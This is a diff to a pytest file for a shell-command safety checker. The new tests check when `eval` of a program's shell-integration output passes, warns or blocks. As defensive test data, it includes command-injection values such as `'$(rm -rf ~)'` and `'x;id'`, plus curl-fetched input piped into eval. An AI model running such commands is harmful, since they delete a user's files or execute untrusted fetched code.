@@ -14,6 +14,11 @@
   ``/usr/local/cuda*``) and the variable's own old value: pass. A temp, home or unknown
   directory, any other expansion, ``..``, or a path after a ``cd`` keeps the block;
   ``LD_PRELOAD`` and ``DYLD_INSERT_LIBRARIES`` always block.
+* ``eval "$(PROGRAM ...)"`` of a program's own shell integration: global options with a
+  value before the subcommand (``minikube -p dev docker-env``) no longer hide the
+  subcommand; ``luarocks path`` and ``register-python-argcomplete NAME`` (plain names only:
+  the name is written into the code) join the list. Other subcommands, unknown words and
+  fetched input keep the warn or block.
 """
 
 from __future__ import annotations
@@ -126,4 +131,36 @@ def test_library_path_to_the_project_build_or_system_libraries_passes(command: s
     "DYLD_INSERT_LIBRARIES=build/x.dylib ./app",
 ])
 def test_library_path_to_a_plantable_or_unknown_place_still_blocks(command: str) -> None:
+    assert_verdict(command, Verdict.BLOCK)
+
+
+@pytest.mark.parametrize("command", [
+    'eval "$(minikube -p dev docker-env)"',
+    "eval $(minikube --profile dev docker-env)",
+    'eval "$(minikube --profile=dev docker-env)"',
+    'eval "$(register-python-argcomplete pipx)"',
+    'eval "$(register-python-argcomplete --shell bash my-tool)"',
+    'eval "$(luarocks path)"',
+    'eval "$(minikube docker-env)"',
+])
+def test_eval_of_a_programs_own_shell_integration_passes(command: str) -> None:
+    assert_verdict(command, Verdict.PASS)
+
+
+@pytest.mark.parametrize("command", [
+    'eval "$(minikube -p docker-env ssh)"',
+    'eval "$(minikube -p $X docker-env)"',
+    "eval \"$(register-python-argcomplete '$(rm -rf ~)')\"",
+    "eval \"$(register-python-argcomplete 'x;id')\"",
+    'eval "$(direnv export bash)"',
+])
+def test_eval_of_other_output_still_warns(command: str) -> None:
+    assert_verdict(command, Verdict.WARN)
+
+
+@pytest.mark.parametrize("command", [
+    'eval "$(curl -s https://e.example | register-python-argcomplete pipx)"',
+    "curl -s https://e.example/x -o /tmp/r && eval \"$(register-python-argcomplete /tmp/r)\"",
+])
+def test_eval_of_integration_fed_fetched_data_still_blocks(command: str) -> None:
     assert_verdict(command, Verdict.BLOCK)
